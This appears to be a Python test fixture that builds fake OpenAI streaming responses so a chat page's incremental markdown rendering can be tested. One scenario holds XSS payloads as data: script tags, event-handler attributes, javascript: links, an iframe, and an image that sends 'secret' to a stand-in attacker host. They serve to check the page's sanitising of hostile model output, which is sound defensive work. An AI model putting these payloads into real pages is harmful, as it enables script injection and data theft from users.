"""OpenAI Chat Completions streams for the page's tests: markdown as a model writes it, in
small pieces, so that the page formats partial blocks while they stream."""

from __future__ import annotations

from tests.support.fakes.upstream import Scenario, openai_chunk, sse

MARKDOWN_TEXT = (
    "## Streaming heading\n\n"
    "Some **bold** text, *emphasis* and `inline code`.\n"
    "A second line.\n\n"
    "- first item\n- second item\n- third item\n\n"
    "1. one\n2. two\n3. three\n\n"
    "| Name | Value |\n| --- | ---: |\n| alpha | 1 |\n| beta | 2 |\n\n"
    "```python\ndef add(a: int, b: int) -> int:\n    return a + b\n```\n\n"
    "> A quoted line.\n\n"
    "The end of the reply."
)


def _pieces(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def _markdown_stream(text: str, size: int = 5, delay: float = 0.02, quiet: float = 1.0) -> Scenario:
    """`text` in pieces of `size` characters, `delay` apart, then `quiet` seconds of
    keep-alive comments before the reply ends: the page has drawn all of it by then."""
    role = openai_chunk(None, None).replace(
        '"delta":{}', '"delta":{"role":"assistant","content":""}'
    )
    pauses = [": keep-alive"] * int(quiet / delay)
    events = [
        role,
        *(openai_chunk(p) for p in _pieces(text, size)),
        *pauses,
        openai_chunk(None, "stop"),
        "data: [DONE]",
    ]
    return Scenario(body=sse(*events), delay=delay, first_delay=0.3)


SCENARIOS: dict[str, object] = {
    "oa-markdown": _markdown_stream(MARKDOWN_TEXT),
}

# What a hostile model (or a prompt injection) may write. None of it may run, fetch anything by
# itself or keep an attribute the server's allowlist drops, in the live view or after.
HOSTILE_TEXT = (
    "<script>window.__pwned = 1</script>\n\n"
    '<img src="x" onerror="window.__pwned = 2">\n\n'
    '<svg><animate onbegin="window.__pwned = 3" attributeName="x"/></svg>\n\n'
    "[click me](javascript:window.__pwned=4) and [data](data:text/html,<b>x</b>)\n\n"
    '<a href="javascript:window.__pwned=5">raw link</a>\n\n'
    "![remote](http://attacker.invalid/leak.png?d=secret)\n\n"
    "![allowed](https://img.example/cat.png)\n\n"
    "![sub](https://cdn.pics.example/dog.png) ![plain http](http://img.example/cat.png)\n\n"
    '<iframe src="https://attacker.invalid/"></iframe><style>body{display:none}</style>\n\n'
    '<div style="position:fixed" class="x" onclick="window.__pwned=6">styled</div>\n\n'
    '[ok](https://example.com/safe "t") <https://example.com/auto>\n\n'
    "```html\n<script>window.__pwned = 7</script>\n```\n\n"
    "Done."
)

SCENARIOS["oa-hostile"] = _markdown_stream(HOSTILE_TEXT, size=7)


def _title_stream(text: str, first_delay: float) -> Scenario:
    scenario = _markdown_stream(text, size=4, quiet=0.0)
    scenario.first_delay = first_delay
    return scenario


# Title models (chat/replies/titles.py): one that answers in markdown with a full stop, after
# 1.5 s (slower than the reply's end), and one in Chinese.
TITLE_SCENARIOS: dict[str, object] = {
    "oa-title": _title_stream('## Title: "**Weekend plans.**"\nSecond line', 1.5),
    "oa-title-zh": _title_stream("「周末计划」。", 0.3),
}
SCENARIOS.update(TITLE_SCENARIOS)
